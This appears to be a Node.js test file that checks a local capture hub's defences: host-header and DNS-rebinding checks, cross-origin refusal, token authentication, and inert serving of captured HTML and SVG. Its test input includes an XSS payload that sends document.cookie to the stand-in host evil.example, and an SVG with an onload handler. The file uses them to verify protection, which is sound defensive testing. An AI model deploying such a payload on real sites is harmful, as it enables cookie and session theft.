import assert from 'node:assert/strict'
import test from 'node:test'
import { record } from '../store/record.fixture.ts'
import { openTestHub } from './hub.fixture.ts'

const API = '/api/v1/capture'
const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'

test('another name for this address is not answered: DNS rebinding', async (t) => {
  const { app } = await openTestHub(t)
  for (const host of ['127.0.0.1:8899', 'localhost:8899', 'LOCALHOST', '[::1]:8899']) assert.equal((await app.inject({ url: API, headers: { host } })).statusCode, 200, host)
  for (const host of ['evil.example', 'evil.example:8899', 'localhost.evil.example', '127.0.0.1.evil.example', '10.0.0.1', 'localhost@evil.example']) {
    for (const url of [API, '/']) assert.equal((await app.inject({ url, headers: { host } })).statusCode, 403, host)
  }
})

test('pages of other sites can neither read nor change anything', async (t) => {
  const { app, add } = await openTestHub(t)
  await add([record()])
  const host = 'localhost:8899'
  assert.equal((await app.inject({ url: API, headers: { host, origin: 'http://localhost:8899', 'sec-fetch-site': 'same-origin' } })).statusCode, 200)
  for (const headers of [{ origin: 'http://evil.example' }, { origin: 'null' }, { origin: 'http://localhost:8898' }, { origin: 'https://localhost:8899' }, { 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site' }]) {
    assert.equal((await app.inject({ url: API, headers: { host, ...headers } })).statusCode, 403, JSON.stringify(headers))
  }
  // What a form of another site can send without asking first.
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
    const answer = await app.inject({ method: 'POST', url: '/api/v1/replay/confirm', headers: { host, 'content-type': type }, payload: '{"message":1}' })
    assert.ok(answer.statusCode === 415 || answer.statusCode === 400, `${type}: ${answer.statusCode}`)
  }
})

test('beyond a loopback nothing is told without the token', async (t) => {
  const { app } = await openTestHub(t, { server: { token: 'secret-token', names: ['node7.example'] } })
  const host = '10.1.2.3:8899'
  const ask = (headers: Record<string, string>, url = API) => app.inject({ url, headers: { host, ...headers } })
  for (const url of [API, '/api/v1/live', '/api/v1/export?format=jsonl', '/api/v1/openapi.json', '/api/v1/nothing']) assert.equal((await ask({}, url)).statusCode, 401, url)
  assert.equal((await ask({ authorization: 'Bearer secret-token' })).statusCode, 200)
  assert.equal((await ask({ authorization: 'Bearer secret-toke' })).statusCode, 401)
  assert.equal((await ask({ cookie: 'a=b; mtlscope-token=secret-token' })).statusCode, 200)
  assert.equal((await ask({ host: 'node7.example', authorization: 'Bearer secret-token' })).statusCode, 200)
  assert.equal((await ask({ host: 'other.example', authorization: 'Bearer secret-token' })).statusCode, 403)
  assert.equal((await ask({}, '/')).statusCode, 200, 'the page itself holds nothing, and asks for the token')
  const wrong = await app.inject({ method: 'POST', url: '/api/v1/session', headers: { host, 'content-type': 'application/json' }, payload: '{"token":"x"}' })
  assert.deepEqual([wrong.statusCode, wrong.headers['set-cookie']], [401, undefined])
  const right = await app.inject({ method: 'POST', url: '/api/v1/session', headers: { host, 'content-type': 'application/json' }, payload: '{"token":"secret-token"}' })
  assert.match(String(right.headers['set-cookie']), /^mtlscope-token=secret-token; Path=\/; HttpOnly; SameSite=Strict$/)
})

test('captured HTML, SVG and scripts are never a page', async (t) => {
  const { app, add } = await openTestHub(t)
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`
  await add([
    record({ what: SCRIPT, response: { status: 200, headers: [{ name: 'Content-Type', value: 'text/html' }], body: { text: SCRIPT } } }),
    record({ response: { status: 200, headers: [{ name: 'Content-Type', value: 'image/svg+xml' }], body: { base64: Buffer.from(svg).toString('base64') } } }),
  ])
  for (const [id, body] of [[1, SCRIPT], [2, svg]] as const) {
    const answer = await app.inject({ url: `/api/v1/messages/${id}/body/response`, headers: { host: 'localhost' } })
    assert.equal(answer.body, body)
    assert.equal(answer.headers['content-type'], 'application/octet-stream')
    assert.equal(answer.headers['x-content-type-options'], 'nosniff')
    assert.match(String(answer.headers['content-disposition']), /^attachment; filename="[\w.-]+"$/)
    assert.match(String(answer.headers['content-security-policy']), /default-src 'none'; sandbox/)
  }
  for (const url of ['/api/v1/messages', '/api/v1/messages/1', `/api/v1/messages?q=${encodeURIComponent(SCRIPT)}`, `/api/v1/${SCRIPT}`, `/${SCRIPT}`]) {
    const answer = await app.inject({ url: encodeURI(decodeURI(url)), headers: { host: 'localhost' } })
    assert.match(String(answer.headers['content-type']), /^application\/json/, url)
    assert.equal(answer.headers['x-content-type-options'], 'nosniff')
  }
})

test('the page may load and run only what is its own', async (t) => {
  const { app } = await openTestHub(t)
  const { headers } = await app.inject({ url: '/', headers: { host: 'localhost' } })
  const policy = String(headers['content-security-policy'])
  assert.match(policy, /default-src 'none'; script-src 'self'; style-src 'self'/)
  assert.doesNotMatch(policy, /unsafe|\*|https?:/)
  assert.deepEqual([headers['x-frame-options'], headers['referrer-policy'], headers['cross-origin-opener-policy']], ['DENY', 'no-referrer', 'same-origin'])
})
